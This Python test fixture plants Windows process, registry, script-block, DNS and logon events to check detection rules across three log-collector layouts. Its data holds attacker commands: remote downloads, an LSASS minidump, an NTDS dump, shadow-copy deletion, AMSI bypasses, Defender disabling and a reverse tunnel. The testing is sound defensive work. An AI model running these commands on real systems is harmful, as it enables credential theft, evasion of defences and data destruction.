"""Planted events of Windows, in the layouts of three collectors."""

from __future__ import annotations

from event_sources import windows_layouts as layouts
from event_sources.source import Planted, Source, hit, miss
from event_sources.windows_events import (
    EXPLORER,
    RUN_KEY,
    SHELL,
    SYSTEM32,
    audited_process,
    background,
    dns,
    encode,
    engine_start,
    file_time,
    logon,
    process,
    registry,
    script_block,
)

_DIR = "windows/"
ENCODED = _DIR + "proc_creation_win_powershell_encoded.yml"
BASE64 = _DIR + "proc_creation_win_base64_download_command.yml"
CERTUTIL = _DIR + "proc_creation_win_certutil_download.yml"
SHADOW = _DIR + "proc_creation_win_shadow_copies_deleted.yml"
RENAMED = _DIR + "proc_creation_win_renamed_remote_tool.yml"
LSASS = _DIR + "proc_creation_win_lsass_minidump.yml"
DIRECTORY = _DIR + "proc_creation_win_directory_tool_by_other_account.yml"
RUN = _DIR + "registry_set_run_key_user_folder.yml"
REGISTRY_SCRIPT = _DIR + "registry_set_script_in_base64.yml"
FILE_TIME = _DIR + "file_change_win_creation_time_set_back.yml"
LABEL = _DIR + "dns_query_win_long_label.yml"
ASSEMBLY = _DIR + "posh_ps_assembly_from_base64.yml"
AMSI = _DIR + "posh_ps_amsi_switched_off.yml"
DEFENDER = _DIR + "posh_ps_defender_weakened.yml"
VERSION_2 = _DIR + "posh_pc_version_2.yml"
KEY_LENGTH = _DIR + "win_security_weak_session_key.yml"

FETCH = "-urlcache -f http://files.example.org/a.bin a.exe"
DOWNLOAD = (
    "(New-Object Net.WebClient).DownloadString('http://files.example.org')"
)
QUIET = encode("Get-Process | Sort-Object CPU | Select-Object -Last 5")
LONG_LABEL = "kq3vz9x1m4t7c2b8n5w6y0r3p1s9d4f7"
LOAD = "[Reflection.Assembly]::Load([Convert]::FromBase64String($x))"
COMSVCS = r"C:\Windows\System32\comsvcs.dll"
BUILD_AGENT = r"C:\Program Files\Example Build\agent.exe"
NTDSUTIL = SYSTEM32 + "ntdsutil.exe"
VSSADMIN = SYSTEM32 + "vssadmin.exe"
KEY = r"HKLM\Software\Example\Cache\State"
POLICY_KEY = r"HKLM\Software\Policies\Example\Script"


def _nxlog_processes() -> list[Planted]:
    copied = process(
        r"C:\Temp\p.exe",
        f"p \u2013enc {QUIET}",
        OriginalFileName="PowerShell.EXE",
    )
    ntds = '"ac i ntds" "ifm" "create full c:\\temp" q q'
    return [
        hit(process(SHELL, f"powershell -Encoded {QUIET}"), ENCODED),
        # Another dash, and a copy under another name.
        hit(copied, ENCODED),
        miss(process(SHELL, f"powershell -enc {encode('whoami')}")),
        # What the filter lets pass: the agent of the build server.
        miss(
            process(
                SHELL,
                f"powershell -enc {QUIET}",
                ParentImage=BUILD_AGENT,
                Computer="BUILD-1.example.com",
            )
        ),
        hit(audited_process(SYSTEM32 + "certutil.exe", FETCH), CERTUTIL),
        miss(process(SYSTEM32 + "certutil.exe", "certutil -dump a.cer")),
        hit(process(VSSADMIN, "vssadmin.exe  Delete Shadows /all"), SHADOW),
        miss(process(VSSADMIN, "vssadmin list shadows")),
        hit(
            process(
                SYSTEM32 + "rundll32.exe", f"rundll32 {COMSVCS}, #24 612 a full"
            ),
            LSASS,
        ),
        miss(process(SYSTEM32 + "rundll32.exe", "rundll32 comsvcs.dll,#240")),
        hit(
            audited_process(NTDSUTIL, ntds, SubjectUserName="clerk02"),
            DIRECTORY,
        ),
        miss(audited_process(NTDSUTIL, ntds, SubjectUserName="adm-02")),
        miss(process(NTDSUTIL, "ntdsutil", User=r"EXAMPLE\adm-01")),
    ]


def _nxlog() -> list[Planted]:
    defender = "$a = 1\n  Set-MpPreference -DisableRealtimeMonitoring $true"
    return [
        *_nxlog_processes(),
        hit(registry(RUN_KEY, r"C:\Users\clerk01\AppData\Roaming\a.exe"), RUN),
        miss(
            registry(
                RUN_KEY, r"C:\Users\dev01\AppData\Local\Example Sync\sync.exe"
            )
        ),
        miss(registry(RUN_KEY, r"C:\Users\dev01\a.exe", Image=None)),
        hit(script_block(f"$x = 'T'\n{LOAD}"), ASSEMBLY),
        # Another case is another word: the rule says `cased`.
        miss(script_block(LOAD.lower())),
        hit(script_block(defender), DEFENDER),
        miss(script_block("# " + defender.splitlines()[1].strip())),
        hit(dns(f"{LONG_LABEL}.t.example.org"), LABEL),
        miss(dns(f"{LONG_LABEL}.cdn.example.net")),
        hit(logon("198.51.100.23", 56), KEY_LENGTH),
        hit(logon("2001:db8::17", "56"), KEY_LENGTH),
        miss(logon("10.20.30.40", 56)),
        miss(logon("198.51.100.23", 128)),
        miss(logon("198.51.100.23", 0)),
        hit(engine_start("powershell -Version 2 -c $x", "2.0"), VERSION_2),
        miss(engine_start("powershell.exe -Verbose 2")),
    ]


def _evtx_processes() -> list[Planted]:
    moved = encode("  Invoke-WebRequest http://files.example.org/b.exe")
    copied = process(
        r"C:\Temp\c.exe", "c " + FETCH.upper(), OriginalFileName="CertUtil.exe"
    )
    plink = process(
        r"C:\ProgramData\svc.exe",
        "svc.exe -R 3389:127.0.0.1:3389 203.0.113.50",
        OriginalFileName="Plink.exe",
    )
    psexec = process(
        r"C:\Tools\PsExec64.exe",
        r"PsExec64.exe \\SRV-FILE-1 ipconfig",
        OriginalFileName="psexec.c",
    )
    return [
        hit(copied, CERTUTIL),
        miss(
            process(
                SYSTEM32 + "certutil.exe",
                f"certutil {FETCH}",
                ParentImage=r"C:\Program Files\Example PKI\refresh.exe",
            )
        ),
        hit(
            process(SYSTEM32 + r"wbem\WMIC.exe", "wmic shadowcopy delete"),
            SHADOW,
        ),
        miss(process(r"D:\Tools\wmic.exe", "wmic shadowcopy delete")),
        hit(
            process(SHELL, f"powershell -e {encode(DOWNLOAD)}"),
            BASE64,
        ),
        # Two blanks before the text move it by one place in the Base64.
        hit(
            audited_process(SYSTEM32 + "cmd.exe", f"cmd /c {moved}"),
            BASE64,
        ),
        miss(process(SHELL, f"powershell -e {encode('Get-Date')}")),
        hit(plink, RENAMED),
        miss(plink | process(r"C:\Tools\PLINK.EXE", "plink -V")),
        miss(psexec),
        hit(
            audited_process(
                SYSTEM32 + "rundll32.exe",
                f"rundll32.exe {COMSVCS} MiniDump 612 C:\\Temp\\a.bin full",
            ),
            LSASS,
        ),
    ]  # fmt: skip


def _evtx() -> list[Planted]:
    amsi = (
        "$f = [Ref].Assembly.GetType('x.AmsiUtils')\n$f.SetValue($null,$true)"
    )
    patch = "$a = 'AmsiScanBuffer'\n$b = $a\n[Win32]::VirtualProtect($p, 5)"
    old, new = "2014-08-22 06:12:44.000", "2026-11-24 09:02:10.430"
    expression = "Invoke-Expression $env:stage"
    return [
        *_evtx_processes(),
        hit(script_block(amsi), AMSI),
        hit(script_block(patch), AMSI),
        miss(script_block("Get-Help about_Amsi\n'AmsiUtils, not used'")),
        hit(
            file_time(r"C:\Users\clerk03\t.exe", r"C:\a.dll", old, new),
            FILE_TIME,
        ),
        miss(
            file_time(SYSTEM32 + "msiexec.exe", r"C:\Data\b.dll", old, new)
        ),
        miss(file_time(EXPLORER, r"C:\Data\c.txt", "2021-03-01 00:00:00", new)),
        hit(registry(KEY, encode(expression)), REGISTRY_SCRIPT),
        hit(registry(KEY, encode(expression, "utf-16-be")), REGISTRY_SCRIPT),
        hit(
            registry(KEY, encode("IEX $s", mark=b"\xff\xfe")), REGISTRY_SCRIPT
        ),
        miss(registry(POLICY_KEY, encode(expression))),
        miss(registry(KEY, encode("invoke", "utf-8"))),
        hit(engine_start("powershell -v 2 -nop -c $x", "2.0"), VERSION_2),
        miss(logon("192.168.4.4", 56, LogonType=10)),
        hit(logon("203.0.113.7", 40, LogonType=10), KEY_LENGTH),
        miss(logon("203.0.113.7", 40, LogonType=2)),
    ]  # fmt: skip


def _winlogbeat() -> list[Planted]:
    adexplorer = process(
        r"C:\Users\clerk02\Downloads\tool.exe",
        "tool.exe -snapshot dc-1.example.com out.dat",
        OriginalFileName="ADExplorer.exe",
    )
    exclusion = "Add-MpPreference -ExclusionPath C:\\Users"
    agent = r"C:\Users\dev02\AppData\Roaming\updater.exe"
    return [
        hit(process(SHELL, f"powershell.exe /enc {QUIET}"), ENCODED),
        hit(adexplorer, RENAMED),
        miss(adexplorer | process(r"C:\Tools\ADExplorer.exe", "adexplorer")),
        hit(registry(RUN_KEY, agent), RUN),
        miss(registry(RUN_KEY.replace("Run", "RunOnce"), agent)),
        hit(script_block(exclusion), DEFENDER),
        hit(dns(f"{LONG_LABEL[::-1]}.t.example.org"), LABEL),
        miss(dns("a-name-of-words-and-dashes-that-is-long.example.com")),
        hit(
            process(VSSADMIN, "VSSADMIN Delete Shadows /For=C: /Quiet"), SHADOW
        ),
    ]


SOURCES = [
    Source("windows", 450, _nxlog(), background, layouts.to_nxlog),
    Source("windows_evtx", 350, _evtx(), background, layouts.to_evtx),
    Source(
        "windows_winlogbeat", 250, _winlogbeat(), background,
        layouts.to_winlogbeat,
    ),
]  # fmt: skip
